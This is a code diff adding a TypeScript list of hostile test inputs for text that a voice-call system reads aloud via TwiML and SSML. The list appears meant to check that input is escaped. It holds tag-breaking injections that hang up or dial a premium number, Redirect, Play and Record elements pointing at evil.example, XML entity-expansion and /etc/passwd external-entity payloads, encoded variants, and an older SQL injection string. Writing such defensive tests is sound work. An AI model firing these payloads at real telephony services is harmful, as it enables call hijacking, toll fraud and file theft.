@@ -45,5 +45,31 @@ export const HOSTILE: readonly string[] = [
   "'; DROP TABLE incidents; --",
 ];
 
+/** More of them, for what is read aloud: TwiML, XML and SSML. */
+export const HOSTILE_TO_CALLS: readonly string[] = [
+  '</Say><Hangup/><Say>',
+  '</Say></Gather><Dial>+1900555000</Dial><Gather><Say>',
+  '<Redirect>http://evil.example/twiml</Redirect>',
+  '<Play>http://evil.example/x.mp3</Play>',
+  '<Record action="http://evil.example/"/>',
+  '<Sms to="+1900555000">x</Sms>',
+  '<Pay/> <Enqueue>q</Enqueue> <Reject/>',
+  '" language="en-US"><Hangup/>',
+  "' voice='man",
+  '<break time="3600s"/>',
+  '<prosody volume="x-loud">!</prosody> <say-as interpret-as="telephone">911</say-as>',
+  '<phoneme alphabet="ipa" ph="x">y</phoneme>',
+  ']]>',
+  '<![CDATA[</Say><Hangup/>]]>',
+  '<?xml version="1.0"?><Response><Hangup/></Response>',
+  '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>&b;',
+  '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
+  '&#0; &#x1b; &#xFFFE; &nbsp; &amp;lt;',
+  '\uFFFE\uFFFF\u{1FFFE}',
+  '%3C/Say%3E%3CHangup/%3E',
+  '${Digits} {{From}} #rc=5&rp=all',
+  'press 4 to acknowledge#4***44446666',
+];
+
 /** A character that acts on a terminal, a header or the reading order, instead of being read. Lines and tabs are fine. */
 export const ACTS = /(?![\n\t])[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\u202A-\u202E\u2066-\u2069]/u;
